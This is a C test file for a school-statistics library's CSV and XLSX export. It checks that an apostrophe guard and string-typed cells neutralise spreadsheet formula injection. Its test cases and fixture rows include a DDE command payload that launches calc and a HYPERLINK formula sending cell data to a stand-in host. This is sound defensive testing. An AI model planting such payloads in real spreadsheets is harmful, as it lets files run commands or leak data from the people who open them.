/*
** test_export.c — exports that Chinese Excel opens safely (issue 9 §4).
**
** What is tested, each by reading the export back:
**   - the CSV formula guard: the writer's bytes for the OWASP cases, and
**     the table reader giving back exactly the text written;
**   - CSV for people: a UTF-8 BOM, Chinese headers and values by default,
**     the English keys and values on request; both forms and both XLSX
**     forms read back (the library's own CSV and XLSX readers) to the same
**     rows, with the dangerous names intact;
**   - XLSX: text cells are strings, never formulas; what a sheet cannot
**     hold (32,767 characters a cell, 16,384 columns) is an error naming
**     the cell, and no file is left behind.
**
** Two datasets are "the same" here when their machine-form exports
** (jh_export_csv: every stored field, numbers in shortest exact form,
** extras by name) are the same bytes.
*/
#include "testutil.h"

#include <sys/stat.h>
#include <unistd.h>

/* --- the CSV cell writer and the table reader ------------------------- */

static char *cell_csv(const char *s)
{
	jh_buf b = JH_BUF_INIT;

	jh_buf_addcsv(&b, s);
	jh_buf_addc(&b, '\0');
	return b.data;
}

static void test_guard_writer(void **state)
{
	static const struct { const char *in, *out; } cases[] = {
		/* OWASP's six first characters: one ' in front. */
		{"=1+1", "'=1+1"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-5", "'-5"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1+1", "'\t=1+1"},
		/* A CR needs quotes as well (RFC 4180); the ' goes inside. */
		{"\r=1+1", "\"'\r=1+1\""},
		/* Quoted for its commas and quotes, guarded inside the quotes. */
		{"=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
		 "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\""},
		/* Text that already starts with ' before a formula character
		 * gets one more, so that the reader's one-' rule gives it back. */
		{"'=1+1", "''=1+1"},
		{"''-x", "'''-x"},
		/* Never guarded: ' before anything else, the characters later
		 * in the cell, plain and empty text. */
		{"'abc", "'abc"},
		{"'", "'"},
		{"a=b", "a=b"},
		{"江城区实验小学", "江城区实验小学"},
		{"", ""},
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *got = cell_csv(cases[i].in);
		assert_string_equal(got, cases[i].out);
		free(got);
	}
	/* Numbers the library writes are numbers, not formulas: no guard. */
	{
		jh_buf b = JH_BUF_INIT;
		jh_out *o = jh_out_new_buf(&b);
		jh_out_addnum(o, -0.5);
		assert_int_equal(jh_out_close(o), JH_OK);
		jh_buf_addc(&b, '\0');
		assert_string_equal(b.data, "-0.5");
		jh_buf_free(&b);
	}
}

/* Every text written by the cell writer and read by the CSV reader comes
 * back unchanged; a ' the writer did not add stays. */
static void test_guard_roundtrip(void **state)
{
	static const char *const texts[] = {
		"=1+1", "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
		"+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "-5",
		"'=1+1", "''=1+1", "'abc", "'", "''", "a=b", "普通名称", "",
	};
	size_t n = sizeof texts / sizeof texts[0];
	jh_buf b = JH_BUF_INIT;
	jh_diags d = JH_DIAGS_INIT;
	jh_table *t = NULL;

	(void)state;
	for (size_t i = 0; i < n; i++) {
		if (i)
			jh_buf_addc(&b, ',');
		jh_buf_addcsv(&b, texts[i]);
	}
	jh_buf_addc(&b, '\n');
	assert_int_equal(jh_csv_parse(b.data, b.len, "g.csv", &t, &d), JH_OK);
	assert_int_equal(t->nrows, 1);
	assert_int_equal(t->rows[0].ncells, n);
	for (size_t i = 0; i < n; i++)
		assert_string_equal(jh_table_cell(t, 0, i), texts[i]);
	jh_table_free(t);
	jh_buf_free(&b);
	jh_diags_free(&d);
}

/* The reader's rule alone (any table, CSV or XLSX): one ' comes off a
 * cell that is ' followed by formula text, and only then. */
static void test_guard_reader(void **state)
{
	static const struct { const char *in, *out; } cases[] = {
		{"'=1+1", "=1+1"},
		{"''=1+1", "'=1+1"},
		{"'-5", "-5"},
		{"'\t=x", "\t=x"},
		{"'abc", "'abc"},
		{"'", "'"},
		{"''", "''"},
		{"=1+1", "=1+1"},     /* an unguarded formula is text as it is */
	};
	jh_table *t = jh_table_new("x.xlsx", "Sheet1");

	(void)state;
	assert_non_null(t);
	assert_int_equal(jh_table_begin_row(t, 1), JH_OK);
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
		assert_int_equal(jh_table_add_cell(t, cases[i].in, strlen(cases[i].in)), JH_OK);
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
		assert_string_equal(jh_table_cell(t, 0, i), cases[i].out);
	jh_table_free(t);
}

/* --- the export ------------------------------------------------------- */

/* Four schools, one of each kind the export writes differently: types
 * 小学/初级中学/九年一贯制学校/教学点, locations 城区/镇区/乡村/none,
 * boarding 是/否/none, names that are formulas, extras that start with a
 * tab, a minus and a guarded '.  The file's '' before =x reads as '=x. */
#define FIXTURE \
	TEST_TEMPLATE_HEADER ",location,boarding,备注,联系人\n" \
	"3601020001,=1+1,360102,2024,primary,,500,0,0,30,0,5,0,4,0,35,0," \
	"3000.5,5000,1000000,12,urban,1,\t=2+2,-5\n" \
	"3601020002,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"," \
	"360102,2024,junior,,0,400,0,0,25,0,4,0,3,0,30,2500,4000,800000,10," \
	"town,0,,''=x\n" \
	"3601020003,+cmd|' /C calc'!A0,360102,2024,nine_year,,300,200,0," \
	"20,15,3,3,3,2,22,18,4000,6000,1500000,15,rural,,,\n" \
	"3601020004,@SUM(1+1),360102,2024,teaching_point,3601020001,40,0,0," \
	"2,0,0,0,1,0,3,0,300,500,50000,1,,,,\n"

/* The fixture's rows as the machine form writes them: every ' the file
 * had before a formula character came off on reading; the export puts
 * one back on every text cell that needs it. */
#define MACHINE_ROWS \
	"3601020001,'=1+1,360102,2024,primary,,urban,1,500,0,0,30,0,5,0,4,0,35,0," \
	"3000.5,5000,1000000,12,'\t=2+2,'-5\n" \
	"3601020002,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"," \
	"360102,2024,junior,,town,0,0,400,0,0,25,0,4,0,3,0,30,2500,4000,800000,10," \
	",''=x\n" \
	"3601020003,'+cmd|' /C calc'!A0,360102,2024,nine_year,,rural,,300,200,0," \
	"20,15,3,3,3,2,22,18,4000,6000,1500000,15,,\n" \
	"3601020004,'@SUM(1+1),360102,2024,teaching_point,3601020001,,,40,0,0," \
	"2,0,0,0,1,0,3,0,300,500,50000,1,,\n"

#define EN_HEADER \
	"school_code,school_name,county_code,year,school_type,parent_code," \
	"location,boarding,students_primary,students_junior,students_senior," \
	"qualified_teachers_primary,qualified_teachers_junior," \
	"key_teachers_primary,key_teachers_junior," \
	"pe_art_teachers_primary,pe_art_teachers_junior," \
	"teachers_primary,teachers_junior,teaching_area_m2,sports_area_m2," \
	"equipment_value_yuan,multimedia_rooms,备注,联系人\n"

/* The template's Chinese names, in template order (lib/core/meta.c). */
#define ZH_HEADER \
	"学校标识码,学校名称,县(市、区)代码,年度,办学类型,所属中心校," \
	"城乡类型,是否寄宿制学校,小学在校生数,初中在校生数,高中在校生数," \
	"小学高于规定学历教师数,初中高于规定学历教师数," \
	"小学县级及以上骨干教师数,初中县级及以上骨干教师数," \
	"小学体育、艺术(美术、音乐)专任教师数,初中体育、艺术(美术、音乐)专任教师数," \
	"小学专任教师数,初中专任教师数,教学及辅助用房面积,体育运动场馆面积," \
	"教学仪器设备值,网络多媒体教室数,备注,联系人\n"

/* The same rows in Chinese: types and locations by their Chinese names,
 * boarding 是/否; codes, numbers and user text as in the machine form. */
#define ZH_ROWS \
	"3601020001,'=1+1,360102,2024,小学,,城区,是,500,0,0,30,0,5,0,4,0,35,0," \
	"3000.5,5000,1000000,12,'\t=2+2,'-5\n" \
	"3601020002,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"," \
	"360102,2024,初级中学,,镇区,否,0,400,0,0,25,0,4,0,3,0,30,2500,4000,800000,10," \
	",''=x\n" \
	"3601020003,'+cmd|' /C calc'!A0,360102,2024,九年一贯制学校,,乡村,,300,200,0," \
	"20,15,3,3,3,2,22,18,4000,6000,1500000,15,,\n" \
	"3601020004,'@SUM(1+1),360102,2024,教学点,3601020001,,,40,0,0," \
	"2,0,0,0,1,0,3,0,300,500,50000,1,,\n"

struct fx {
	jh_dataset *ds;
	jh_diags d;
	char dir[64];
};

static int setup(void **state)
{
	struct fx *f = calloc(1, sizeof *f);

	if (!f)
		return -1;
	jh_diags_init(&f->d);
	snprintf(f->dir, sizeof f->dir, "/tmp/jh-export-XXXXXX");
	if (!mkdtemp(f->dir) || !(f->ds = jh_dataset_new()))
		return -1;
	test_load_csv(f->ds, FIXTURE, &f->d);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fx *f = *state;
	char p[128];

	snprintf(p, sizeof p, "%s/e.xlsx", f->dir);
	unlink(p);
	rmdir(f->dir);
	jh_dataset_free(f->ds);
	jh_diags_free(&f->d);
	free(f);
	return 0;
}

static char *machine(const jh_dataset *ds)
{
	jh_buf b = JH_BUF_INIT;

	assert_int_equal(jh_export_csv(ds, NULL, &b), JH_OK);
	jh_buf_addc(&b, '\0');
	return b.data;
}

/* Bytes of an exported CSV file read back as an importer does (encoding
 * detection drops the BOM, then the CSV reader and the template). */
static jh_dataset *read_csv(const char *bytes, size_t n, jh_diags *d)
{
	char *utf8 = NULL;
	size_t len = 0;
	const char *enc = NULL;
	jh_table *t = NULL;
	jh_dataset *ds = jh_dataset_new();

	assert_int_equal(jh_to_utf8(bytes, n, &utf8, &len, &enc), JH_OK);
	assert_int_equal(jh_csv_parse(utf8, len, "e.csv", &t, d), JH_OK);
	assert_int_equal(jh_dataset_add_table(ds, t, d), JH_OK);
	jh_table_free(t);
	free(utf8);
	return ds;
}

static void assert_same(const jh_dataset *a, const jh_dataset *b)
{
	char *x = machine(a), *y = machine(b);

	assert_string_equal(x, y);
	free(x);
	free(y);
}

/* The names and extras that matter, as stored after reading back. */
static void assert_names(const jh_dataset *ds)
{
	assert_int_equal(ds->nrows, 4);
	assert_string_equal(ds->rows[0].school_name, "=1+1");
	assert_string_equal(ds->rows[1].school_name,
	                    "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")");
	assert_string_equal(ds->rows[2].school_name, "+cmd|' /C calc'!A0");
	assert_string_equal(ds->rows[3].school_name, "@SUM(1+1)");
	assert_int_equal(ds->rows[0].extra_count, 2);
	assert_string_equal(ds->extras[ds->rows[0].extra_first].value, "\t=2+2");
	assert_string_equal(ds->extras[ds->rows[0].extra_first + 1].value, "-5");
	assert_int_equal(ds->rows[1].extra_count, 1);
	assert_string_equal(ds->extras[ds->rows[1].extra_first].value, "'=x");
}

static void test_machine_form(void **state)
{
	struct fx *f = *state;
	char *m = machine(f->ds);

	assert_names(f->ds);
	assert_string_equal(m, EN_HEADER MACHINE_ROWS);
	free(m);
}

static void test_csv_zh(void **state)
{
	struct fx *f = *state;
	jh_buf b = JH_BUF_INIT;
	jh_dataset *back;

	assert_int_equal(jh_export_csv_lang(f->ds, NULL, "zh", &b), JH_OK);
	jh_buf_addc(&b, '\0');
	/* EF BB BF first, then the Chinese form. */
	assert_memory_equal(b.data, "\xEF\xBB\xBF", 3);
	assert_string_equal(b.data + 3, ZH_HEADER ZH_ROWS);
	back = read_csv(b.data, b.len - 1, &f->d);
	assert_names(back);
	assert_same(f->ds, back);
	jh_dataset_free(back);
	jh_buf_free(&b);
}

static void test_csv_en(void **state)
{
	struct fx *f = *state;
	jh_buf b = JH_BUF_INIT;
	jh_dataset *back;

	assert_int_equal(jh_export_csv_lang(f->ds, NULL, "en", &b), JH_OK);
	jh_buf_addc(&b, '\0');
	assert_string_equal(b.data, JH_UTF8_BOM EN_HEADER MACHINE_ROWS);
	back = read_csv(b.data, b.len - 1, &f->d);
	assert_names(back);
	assert_same(f->ds, back);
	jh_dataset_free(back);
	jh_buf_free(&b);
}

static char *slurp(const char *path, size_t *n)
{
	FILE *fp = fopen(path, "rb");
	char *p;
	long len;

	assert_non_null(fp);
	fseek(fp, 0, SEEK_END);
	len = ftell(fp);
	fseek(fp, 0, SEEK_SET);
	p = malloc((size_t)len + 1);
	assert_non_null(p);
	assert_int_equal(fread(p, 1, (size_t)len, fp), (size_t)len);
	fclose(fp);
	*n = (size_t)len;
	return p;
}

/* Export as XLSX in lang, read it with the library's XLSX reader; *t is
 * the sheet's table, the result its rows. */
static jh_dataset *xlsx_back(struct fx *f, const char *lang, jh_table **t)
{
	char path[128], *data;
	size_t n, ntabs = 0;
	jh_table **tabs = NULL;
	jh_dataset *ds = jh_dataset_new();

	snprintf(path, sizeof path, "%s/e.xlsx", f->dir);
	assert_int_equal(jh_export_xlsx(f->ds, NULL, lang, path, &f->d), JH_OK);
	data = slurp(path, &n);
	assert_int_equal(jh_xlsx_read(data, n, "e.xlsx", &tabs, &ntabs, &f->d), JH_OK);
	assert_int_equal(ntabs, 1);
	assert_int_equal(jh_dataset_add_table(ds, tabs[0], &f->d), JH_OK);
	*t = tabs[0];
	free(tabs);
	free(data);
	return ds;
}

static void test_xlsx_both(void **state)
{
	struct fx *f = *state;
	static const char *const langs[] = {"zh", "en"};

	for (int l = 0; l < 2; l++) {
		jh_table *t;
		jh_dataset *back = xlsx_back(f, langs[l], &t);

		assert_string_equal(t->sheet, l ? "schools" : "学校");
		assert_string_equal(jh_table_cell(t, 0, 0), l ? "school_code" : "学校标识码");
		assert_string_equal(jh_table_cell(t, 1, 4), l ? "primary" : "小学");
		assert_string_equal(jh_table_cell(t, 1, 6), l ? "urban" : "城区");
		assert_string_equal(jh_table_cell(t, 1, 7), l ? "1" : "是");
		/* Strings, not formulas: a formula cell reads back as its
		 * cached value (libxlsxwriter writes 0), not as its text, and
		 * no ' was added (an XLSX string needs no guard). */
		assert_string_equal(jh_table_cell(t, 1, 1), "=1+1");
		assert_string_equal(jh_table_cell(t, 4, 1), "@SUM(1+1)");
		assert_string_equal(jh_table_cell(t, 1, 24), "-5");
		assert_names(back);
		assert_same(f->ds, back);
		jh_table_free(t);
		jh_dataset_free(back);
	}
}

/* A row of one school, with n extra cells appended after it. */
static jh_dataset *one_school(jh_diags *d)
{
	jh_dataset *ds = jh_dataset_new();

	test_load_csv(ds, TEST_TEMPLATE_HEADER "\n"
	              "3601020001,城东小学,360102,2024,primary,,500,0,0,30,0,5,0,"
	              "4,0,35,0,3000,5000,1000000,12\n", d);
	return ds;
}

static char *repeat(const char *unit, size_t times)
{
	size_t u = strlen(unit);
	char *s = malloc(u * times + 1);

	assert_non_null(s);
	for (size_t i = 0; i < times; i++)
		memcpy(s + i * u, unit, u);
	s[u * times] = '\0';
	return s;
}

static int exists(const char *path)
{
	struct stat st;
	return stat(path, &st) == 0;
}

static void test_xlsx_too_long(void **state)
{
	struct fx *f = *state;
	char path[128];
	/* 32,767 characters fit; one more does not.  A character outside the
	 * BMP (U+1F600, 4 bytes of UTF-8) is two UTF-16 units for Excel:
	 * 16,384 of them are 32,768 units. */
	char *fits = repeat("长", 32767), *over = repeat("x", 32768),
	     *emoji = repeat("\xF0\x9F\x98\x80", 16384);
	const char *vals[3] = {fits, over, emoji};
	const char *want[3] = {NULL, "32,768", "32,768"};

	snprintf(path, sizeof path, "%s/e.xlsx", f->dir);
	for (int k = 0; k < 3; k++) {
		jh_dataset *ds = one_school(&f->d);
		jh_diags d = JH_DIAGS_INIT;
		jh_code rc;

		assert_int_equal(jh_dataset_add_extra(ds, &ds->rows[0], "备注", vals[k]), JH_OK);
		unlink(path);
		rc = jh_export_xlsx(ds, NULL, "zh", path, &d);
		if (!want[k]) {
			/* The longest cell XLSX holds reads back whole. */
			size_t n, ntabs = 0;
			char *data;
			jh_table **tabs = NULL;
			assert_int_equal(rc, JH_OK);
			data = slurp(path, &n);
			assert_int_equal(jh_xlsx_read(data, n, "e.xlsx", &tabs, &ntabs, &d), JH_OK);
			assert_string_equal(jh_table_cell(tabs[0], 1, 21), fits);
			jh_table_free(tabs[0]);
			free(tabs);
			free(data);
		} else {
			/* The sheet: 6 identity columns + 15 required fields, then
			 * 备注 as column 22; the school in XLSX row 2. */
			assert_int_equal(rc, JH_ERR_INPUT);
			assert_int_equal(d.count, 1);
			assert_int_equal(d.items[0].problem, JH_P_XLSX_CELL_TOO_LONG);
			assert_string_equal(d.items[0].file, path);
			assert_string_equal(d.items[0].sheet, "学校");
			assert_int_equal(d.items[0].line, 2);
			assert_int_equal(d.items[0].column, 22);
			assert_string_equal(d.items[0].column_name, "备注");
			assert_string_equal(d.items[0].arg, "3601020001");
			assert_string_equal(d.items[0].arg2, want[k]);
			assert_false(exists(path));
			/* The message names the school and the count, in Chinese. */
			{
				jh_buf m = JH_BUF_INIT;
				jh_diag_format(&d.items[0], "zh", &m);
				jh_buf_addc(&m, '\0');
				assert_non_null(strstr(m.data, "[学校]:第2行:第22列(备注): 学校 3601020001 的这个值有 32,768 个字符"));
				jh_buf_free(&m);
			}
		}
		jh_diags_free(&d);
		jh_dataset_free(ds);
	}
	/* CSV holds any length: the same row exports and reads back. */
	{
		jh_dataset *ds = one_school(&f->d), *back;
		jh_buf b = JH_BUF_INIT;
		assert_int_equal(jh_dataset_add_extra(ds, &ds->rows[0], "备注", over), JH_OK);
		assert_int_equal(jh_export_csv_lang(ds, NULL, "zh", &b), JH_OK);
		back = read_csv(b.data, b.len, &f->d);
		assert_same(ds, back);
		jh_dataset_free(back);
		jh_dataset_free(ds);
		jh_buf_free(&b);
	}
	free(fits);
	free(over);
	free(emoji);
}

static void test_xlsx_header_and_sheet_limits(void **state)
{
	struct fx *f = *state;
	char path[128], name[16], *longname = repeat("列", 32768);
	jh_dataset *ds = one_school(&f->d);
	jh_diags d = JH_DIAGS_INIT;

	snprintf(path, sizeof path, "%s/e.xlsx", f->dir);
	unlink(path);
	/* A column name over 32,767 characters: header row 1, column 22. */
	assert_int_equal(jh_dataset_add_extra(ds, &ds->rows[0], longname, "1"), JH_OK);
	assert_int_equal(jh_export_xlsx(ds, NULL, "en", path, &d), JH_ERR_INPUT);
	assert_int_equal(d.count, 1);
	assert_int_equal(d.items[0].problem, JH_P_XLSX_HEADER_TOO_LONG);
	assert_int_equal(d.items[0].line, 1);
	assert_int_equal(d.items[0].column, 22);
	assert_string_equal(d.items[0].arg, "32,768");
	/* The name in the message is cut to 40 characters and "…". */
	assert_int_equal(strlen(d.items[0].column_name), 40 * 3 + 3);
	assert_false(exists(path));
	jh_diags_free(&d);
	jh_dataset_free(ds);

	/* 21 columns of the template and 16,364 extras: 16,385 columns, one
	 * more than a sheet has. */
	ds = one_school(&f->d);
	for (int i = 0; i < 16364; i++) {
		snprintf(name, sizeof name, "e%d", i);
		assert_int_equal(jh_dataset_add_extra(ds, &ds->rows[0], name, "1"), JH_OK);
	}
	assert_int_equal(jh_export_xlsx(ds, NULL, "zh", path, &d), JH_ERR_INPUT);
	assert_int_equal(d.count, 1);
	assert_int_equal(d.items[0].problem, JH_P_XLSX_SHEET_LIMIT);
	assert_string_equal(d.items[0].arg, "2");
	assert_string_equal(d.items[0].arg2, "16,385");
	assert_false(exists(path));
	jh_diags_free(&d);
	jh_dataset_free(ds);
	free(longname);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_guard_writer),
		cmocka_unit_test(test_guard_roundtrip),
		cmocka_unit_test(test_guard_reader),
		cmocka_unit_test_setup_teardown(test_machine_form, setup, teardown),
		cmocka_unit_test_setup_teardown(test_csv_zh, setup, teardown),
		cmocka_unit_test_setup_teardown(test_csv_en, setup, teardown),
		cmocka_unit_test_setup_teardown(test_xlsx_both, setup, teardown),
		cmocka_unit_test_setup_teardown(test_xlsx_too_long, setup, teardown),
		cmocka_unit_test_setup_teardown(test_xlsx_header_and_sheet_limits, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
